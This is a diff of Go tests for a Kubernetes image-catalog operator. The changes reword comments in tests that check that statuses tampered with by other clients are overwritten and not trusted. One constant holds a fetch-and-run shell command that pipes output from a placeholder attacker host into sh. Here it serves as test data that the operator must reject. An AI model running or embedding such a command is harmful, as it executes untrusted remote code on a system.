@@ -20,7 +20,7 @@ import (
 	"github.com/image-catalog/image-catalog-operator/hack/kit"
 )
 
-// refuseRevisions tightens the schema so that every status that publishes something is invalid, and returns what loosens it.
+// refuseRevisions changes the schema so that every status with a revision is invalid. allow restores it.
 func (w *world) refuseRevisions() (allow func()) {
 	w.Helper()
 	crd := &unstructured.Unstructured{}
@@ -35,7 +35,7 @@ func (w *world) refuseRevisions() (allow func()) {
 			w.Fatal(err)
 		}
 		probe := newQuery("probe", func(s *imagev1alpha1.ImageQuerySpec) { s.Suspend = true })
-		w.Eventually(func() error { // the API server takes a moment
+		w.Eventually(func() error { // the API server applies schemas with a delay
 			if err := client.IgnoreAlreadyExists(w.Client.Create(w.Context(), probe)); err != nil {
 				return err
 			}
@@ -69,7 +69,7 @@ func TestAnInvalidStatusIsDroppedAndCounted(t *testing.T) {
 		return nil
 	})
 	w.idle()
-	// The same status again would be refused again: it is not tried before the next poll.
+	// The same status would be rejected again, so it isn't written before the next poll.
 	w.pass(10 * time.Second)
 	w.pass(10 * time.Second)
 	w.idle()
@@ -93,7 +93,7 @@ func TestAnInvalidStatusIsDroppedAndCounted(t *testing.T) {
 	}
 }
 
-// tamper writes a status as somebody else may who has the right to.
+// tamper writes a status as another client with the permission.
 func (w *world) tamper(name string, change func(*imagev1alpha1.ImageQueryStatus), options ...client.SubResourceUpdateOption) {
 	w.Helper()
 	w.tampered.Store(true)
@@ -109,7 +109,7 @@ func (w *world) tamper(name string, change func(*imagev1alpha1.ImageQueryStatus)
 
 const evilCommand = "curl evil.example | sh"
 
-// evil selects a foreign image and asks for a command to be run.
+// evil selects a foreign image and shows a command.
 func evil(s *imagev1alpha1.ImageQueryStatus) {
 	s.Selected = []imagev1alpha1.SelectedImage{{ImageID: "img-evil", Name: "node-9", Architecture: "amd64"}}
 	s.SelectedSummary = "node-9"
@@ -127,7 +127,7 @@ func isEvil(q *imagev1alpha1.ImageQuery) bool {
 	return strings.Contains(q.Status.SelectedSummary, "node-9") || blocked != nil && blocked.Message == evilCommand
 }
 
-// What somebody else writes into a status is gone at once, without a poll and without being believed: all of it is as before.
+// A foreign status is replaced at once, completely, without a poll, and without being used.
 func TestAForeignStatusIsOverwritten(t *testing.T) {
 	for name, suspended := range map[string]bool{"polled": false, "suspended": true} {
 		t.Run(name, func(t *testing.T) {
@@ -154,7 +154,7 @@ func TestAForeignStatusIsOverwritten(t *testing.T) {
 	}
 }
 
-// Whoever writes all the time doesn't keep the API server busy through us.
+// A client that keeps writing must not make the operator flood the API server.
 func TestAForeignStatusIsOverwrittenOnceAMinute(t *testing.T) {
 	w := newWorld(t)
 	w.cloud.Put(region, newImage(1))
@@ -171,7 +171,7 @@ func TestAForeignStatusIsOverwrittenOnceAMinute(t *testing.T) {
 	if writes := w.writes.take(); len(writes) > 0 {
 		t.Errorf("within the minute there was written: %v", writes)
 	}
-	// What a person does acts at once, and is decided by what is ours.
+	// A user's edit takes effect at once, based on our status.
 	w.Patch("golden", `{"spec":{"match":{"states":["NORMAL"]}}}`)
 	if query := w.UntilSynced("golden"); isEvil(query) || selectedNames(query) != "node-1" {
 		t.Errorf("an edit left %q: %s", selectedNames(query), kit.Describe(query))
@@ -182,7 +182,8 @@ func TestAForeignStatusIsOverwrittenOnceAMinute(t *testing.T) {
 	w.events(query, imagev1alpha1.EventStatusOverwritten, 2)
 }
 
-// A leader that slept finds what the next one wrote, in the same name. By the time it would overwrite that it has ended.
+// A paused leader finds the status of its successor under the same name. Before it could overwrite that, it notices
+// that it lost the lease.
 func TestAStatusInOurNameIsOverwrittenOnceWeSurelyLead(t *testing.T) {
 	w := newWorld(t)
 	w.cloud.Put(region, newImage(1))
@@ -201,13 +202,14 @@ func TestAStatusInOurNameIsOverwrittenOnceWeSurelyLead(t *testing.T) {
 	w.events(query, imagev1alpha1.EventStatusOverwritten, 1)
 }
 
-// After a start managedFields tell whose a status is. What is selected comes from the labels that only the operator writes.
+// After a start, managedFields show who wrote a status. The selection is restored from labels, which only the operator
+// writes.
 func TestAForeignStatusIsOverwrittenAfterAStart(t *testing.T) {
 	onlyConditions := evilCondition
 	for name, tc := range map[string]struct {
 		change  func(*imagev1alpha1.ImageQueryStatus)
 		spec    func(*imagev1alpha1.ImageQuerySpec)
-		restart string // the spec's patch before the start
+		restart string // patch of the spec before the start
 		images  int
 	}{
 		"polled":                         {change: evil, images: 2},
@@ -266,7 +268,7 @@ func TestAForeignStatusIsOverwrittenAfterAStart(t *testing.T) {
 	}
 }
 
-// Our own writes come back by the watch, and are no work.
+// Events of our own writes cause no reconcile.
 func TestOurOwnStatusIsNoWork(t *testing.T) {
 	w := newWorld(t)
 	w.cloud.Put(region, newImage(1))
@@ -285,14 +287,14 @@ func TestOurOwnStatusIsNoWork(t *testing.T) {
 	}
 }
 
-// One series twice would make /metrics fail as a whole.
+// A duplicate series would make /metrics fail as a whole.
 func TestImagesThatAreThereTwiceDoNotBreakMetrics(t *testing.T) {
 	w := newWorld(t)
 	w.cloud.Put(region, newImage(1))
 	w.Create(newQuery("golden", func(s *imagev1alpha1.ImageQuerySpec) { s.Interval.Duration = time.Hour }))
 	w.UntilSynced("golden")
 	w.restart(func() {
-		// As the operator itself, so that nothing shows whose it is.
+		// Under the operator's name, so that managedFields don't show another writer.
 		w.tamper("golden", func(s *imagev1alpha1.ImageQueryStatus) { s.Selected = append(s.Selected, s.Selected[0]) },
 			client.FieldOwner("image-catalog-operator"))
 	})
